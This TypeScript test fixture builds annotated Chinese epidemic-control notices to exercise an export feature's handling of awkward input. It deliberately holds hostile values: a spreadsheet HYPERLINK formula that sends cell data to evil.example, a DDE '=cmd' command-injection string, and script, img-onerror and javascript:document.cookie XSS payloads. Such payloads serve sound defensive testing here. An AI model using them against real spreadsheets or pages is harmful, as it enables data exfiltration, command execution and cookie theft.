/**
 * Realistic export inputs built from the seed notices (tests/fixtures), with hand-made clauses and annotations that
 * exercise the awkward cases: quotes, commas and line breaks in notes, formula-like notes, emoji with
 * surrogate pairs, empty notes, deleted annotations, hostile titles.
 */

import type {
  Annotation,
  AnnotationColour,
  Bearer,
  Clause,
  Deadline,
  NoticeMetadata,
  ObligationCategory,
  SavedNotice,
  Selector,
} from '../../lib/types';
import { emptyMetadata } from '../../lib/types';
import type { ExportItem } from '../../lib/export/highlights';
import { seedSource } from '../support/fixtures';

export function seedText(name: string): string {
  return seedSource(name);
}

export function spanOf(text: string, phrase: string): { start: number; end: number } {
  const start = text.indexOf(phrase);
  if (start < 0) throw new Error(`fixture phrase not in text: ${phrase}`);
  return { start, end: start + phrase.length };
}

export function clause(
  text: string,
  phrase: string,
  category: ObligationCategory,
  options: {
    strength?: 'hard' | 'soft';
    trigger: string;
    bearer?: Bearer | null;
    deadline?: Deadline | null;
    extra?: ObligationCategory[];
  },
): Clause {
  const { start, end } = spanOf(text, phrase);
  return {
    category,
    categories: [category, ...(options.extra ?? [])],
    strength: options.strength ?? 'hard',
    start,
    end,
    text: phrase,
    trigger: options.trigger,
    bearer: options.bearer ?? null,
    deadline: options.deadline ?? null,
    quoted: false,
    heading: false,
    score: 0.82,
  };
}

/** Deterministic UUIDs (one series per fixture notice), so every call of a fixture gives the same ids. */
export function uuid(series: 'a' | 'b' | 'c', n: number): string {
  return `3f1c2b7a-9d4e-4c1a-8b2f-${series}${String(n).padStart(11, '0')}`;
}

export function annotate(
  notice: SavedNotice,
  phrase: string,
  options: {
    id: string;
    colour: AnnotationColour;
    note?: string;
    tags?: string[];
    section?: string | null;
    deletedAt?: number | null;
    time?: number;
  },
): Annotation {
  const { start, end } = spanOf(notice.text, phrase);
  const time = options.time ?? 1_738_100_000_000;
  const selectors: Selector[] = [
    {
      type: 'TextQuoteSelector',
      exact: phrase,
      prefix: notice.text.slice(Math.max(0, start - 32), start),
      suffix: notice.text.slice(end, end + 32),
    },
    { type: 'TextPositionSelector', start, end },
    { type: 'StructuralKey', section: options.section ?? null, paragraph: 3, sentence: 1, offsetInSentence: 0 },
  ];
  return {
    id: options.id,
    noticeId: notice.id,
    colour: options.colour,
    note: options.note ?? '',
    tags: options.tags ?? [],
    selectors,
    quote: phrase,
    createdAt: time,
    updatedAt: time + 60_000,
    deletedAt: options.deletedAt ?? null,
  };
}

function metadata(partial: Partial<NoticeMetadata> = {}): NoticeMetadata {
  return emptyMetadata(partial);
}

export const TITLE_A =
  '中国银保监会党委办公室关于动员系统各级党组织和党员干部积极投身新型冠状病毒感染肺炎疫情防控阻击战的通知';
export const URL_A = 'https://www.pkulaw.com/chl/1b8b7e4fc052b9babdfb.html';
export const NOTE_WITH_CSV_TROUBLE = '要点：“主体责任”, "第一责任人"，逗号,分号;\n第二行：党委书记';
export const FORMULA_NOTE = '=HYPERLINK("http://evil.example/?q="&A1,"点我")';
export const EMOJI_NOTE = '👍🏻 重点关注 😀 家庭👨‍👩‍👧';
export const DELETED_NOTE = 'DELETED-NOTE-MARKER 已删除的批注';
export const HOSTILE_NOTE = '<script>alert(1)</script> [点我](javascript:alert(1)) ![x](http://evil.example/x.png)';

/** Seed 000: a pkulaw notice with full metadata, five clauses and six annotations (one deleted). */
export function noticeA(): ExportItem {
  const raw = seedText('000_539b2a5a56109cc5.txt');
  const text = raw.slice(raw.indexOf(TITLE_A, raw.indexOf('原文链接') + 60)).trim();
  const explicit: Bearer = { text: '系统各级党委', source: 'explicit' };
  const inherited: Bearer = { text: '系统各级党委', source: 'inherited' };
  const members: Bearer = { text: '系统广大共产党员', source: 'inherited' };
  const clauses: Clause[] = [
    clause(
      text,
      '系统各级党委对本单位疫情防控工作承担主体责任，党委书记是第一责任人，对疫情防控工作要亲自抓、总负责',
      'obligation',
      {
        trigger: '要',
        bearer: explicit,
      },
    ),
    clause(
      text,
      '要强化底线思维，制定工作预案，加强内部安全防护措施，做好本单位的疫情监测、排查、预警、防控等工作，严防发生聚集性疫情和安全问题。',
      'obligation',
      {
        trigger: '要',
        bearer: inherited,
      },
    ),
    clause(
      text,
      '对不敢担当、作风飘浮、落实不力的，搞形式主义、官僚主义，甚至弄虚作假、失职渎职的，严肃追责问责。',
      'accountability',
      {
        trigger: '严肃追责问责',
        bearer: null,
      },
    ),
    clause(
      text,
      '要增强政治敏锐性和政治鉴别力，不信谣不传谣，坚决支持配合疫情防控工作，带头少外出少走动、不聚会不聚餐，共同维护社会公共秩序。',
      'prohibition',
      {
        strength: 'soft',
        trigger: '不信谣不传谣',
        bearer: members,
        extra: ['obligation'],
      },
    ),
    clause(
      text,
      '系统各单位党委动员党组织和广大党员干部在防控疫情斗争中发挥作用的情况，要及时报告会党委。',
      'obligation',
      {
        trigger: '要',
        bearer: { text: '系统各单位党委', source: 'explicit' },
        deadline: { text: '及时', type: 'relative', iso: null },
      },
    ),
  ];
  const notice: SavedNotice = {
    id: 'cite:CLI.16.338947',
    urls: [URL_A, 'https://www.pkulaw.com/chl/1b8b7e4fc052b9babdfb.html?keyword=疫情'],
    metadata: metadata({
      title: TITLE_A,
      docType: '通知',
      docNumber: '银保监党办发〔2020〕3号',
      issuers: ['中国银保监会党委办公室'],
      addressees: ['各银保监局党委', '机关党委', '各会管单位党委'],
      signedDate: '2020-01-29',
      publishedDate: '2020-01-29',
      effectiveDate: '2020-01-29',
      validity: '现行有效',
      level: '部门工作文件',
      citationCode: 'CLI.16.338947',
      url: URL_A,
    }),
    text,
    outline: ['一、', '二、', '三、', '四、', '五、'].map((label, i) => ({
      level: 1,
      label,
      title: [
        '提高政治站位，坚决扛起疫情防控的政治责任',
        '强化监管引领，指导银行保险机构全力配合做好金融服务',
        '抓住“关键少数”，发挥领导干部示范带动作用',
        '突出政治功能，发挥基层党组织战斗堡垒作用',
        '践行初心使命，发挥共产党员先锋模范作用',
      ][i],
      start: text.indexOf(`\u3000\u3000${label}`) + 2,
    })),
    obligations: clauses,
    site: 'pkulaw',
    saved: true,
    tags: ['疫情防控', '党建'],
    createdAt: 1_738_000_000_000,
    updatedAt: 1_738_000_500_000,
  };
  const annotations = [
    annotate(notice, '党委书记是第一责任人', {
      id: uuid('a', 1),
      colour: 'yellow',
      note: NOTE_WITH_CSV_TROUBLE,
      tags: ['主体责任', '疫情防控'],
      section: '三',
    }),
    annotate(notice, '甚至弄虚作假、失职渎职的，严肃追责问责', {
      id: uuid('a', 2),
      colour: 'green',
      note: FORMULA_NOTE,
      tags: ['问责'],
      section: '三',
    }),
    annotate(notice, '让党旗在疫情防控一线高高飘扬', { id: uuid('a', 3), colour: 'blue', section: '一' }),
    annotate(notice, '不信谣不传谣', {
      id: uuid('a', 4),
      colour: 'pink',
      note: EMOJI_NOTE,
      tags: ['🚩标记', '谣言'],
      section: '五',
    }),
    annotate(notice, '落实每日疫情零报告制度', {
      id: uuid('a', 5),
      colour: 'purple',
      note: DELETED_NOTE,
      deletedAt: 1_738_200_000_000,
      section: '四',
    }),
    annotate(notice, '要及时报告会党委', {
      id: uuid('a', 6),
      colour: 'yellow',
      note: HOSTILE_NOTE,
      tags: ['#hash|pipe', 'a b'],
    }),
  ];
  return { notice, annotations };
}

/** Seed 003: a county notice read from a pasted text: no URL, sparse metadata, a dated deadline. */
export function noticeB(): ExportItem {
  const text = seedText('003_c9608edf68f48eb1.txt').trim();
  const phrase = '各级党组织要严格按照“外防输入、内防扩散”的要求，落实以城区和行政村防控为主的综合防控措施';
  const notice: SavedNotice = {
    id: 'text:4b1f0c2e9a6d3c70',
    urls: [],
    metadata: metadata({
      title: '关于发挥党组织战斗堡垒作用 坚决打赢疫情防控阻击战的通知',
      docType: '通知',
      addressees: ['各乡（镇）党委', '各街道党工委'],
    }),
    text,
    outline: [],
    obligations: [
      {
        ...clause(text, phrase, 'obligation', {
          trigger: '要',
          bearer: { text: '各级党组织', source: 'explicit' },
          deadline: { text: '2020年2月底前', type: 'date', iso: '2020-02-29' },
        }),
        score: 0.5,
      },
    ],
    site: 'text',
    saved: false,
    tags: [],
    createdAt: 1_738_300_000_000,
    updatedAt: 1_738_300_000_000,
  };
  const annotations = [
    annotate(notice, phrase.slice(0, 12), { id: uuid('b', 1), colour: 'green', note: '-1+1 看似公式', tags: [] }),
    annotate(notice, phrase.slice(12, 20), {
      id: 'hypothesis:AbC-12_x.y|z',
      colour: 'blue',
      note: '@SUM(A1:A9)',
      tags: ['\t制表符开头'],
    }),
    annotate(notice, phrase.slice(20, 30), { id: uuid('b', 2), colour: 'pink', note: '   ', tags: [] }),
  ];
  return { notice, annotations };
}

export const HOSTILE_TITLE =
  '[x](javascript:alert(1))<script>alert("t")</script> & <img src=x onerror=alert(1)> `code` | # 标题';

/** A notice whose page data tries every trick: markup, links, formulas, control characters. */
export function noticeHostile(): ExportItem {
  const text = `${HOSTILE_TITLE}\n正文第一段：各单位要于2026年12月31日前完成整改。\n# 假标题\n1. 假列表\n    假代码块`;
  const notice: SavedNotice = {
    id: 'url:https://evil.example/notice?id=1',
    urls: ['javascript:alert(document.cookie)'],
    metadata: metadata({
      title: HOSTILE_TITLE,
      docNumber: "=cmd|' /C calc'!A0",
      issuers: ['<b>某机关</b>', '+某部门'],
      signedDate: '2026-11-25',
      url: 'javascript:alert(document.cookie)',
    }),
    text,
    outline: [],
    obligations: [
      clause(text, '各单位要于2026年12月31日前完成整改。', 'obligation', {
        trigger: '要',
        bearer: { text: '<各单位>', source: 'explicit' },
        deadline: { text: '2026年12月31日前', type: 'date', iso: '2026-12-31' },
      }),
    ],
    site: 'generic',
    saved: true,
    tags: [],
    createdAt: 1_738_400_000_000,
    updatedAt: 1_738_400_000_000,
  };
  const annotations = [
    annotate(notice, '各单位要于2026年12月31日前完成整改', {
      id: uuid('c', 1),
      colour: 'yellow',
      note: HOSTILE_NOTE,
      tags: ['<tag>'],
    }),
    annotate(notice, '# 假标题\n1. 假列表\n    假代码块', {
      id: uuid('c', 2),
      colour: 'blue',
      note: '- 列表？\n> 引用？\n+ 加号\n|表|格|',
    }),
  ];
  return { notice, annotations };
}
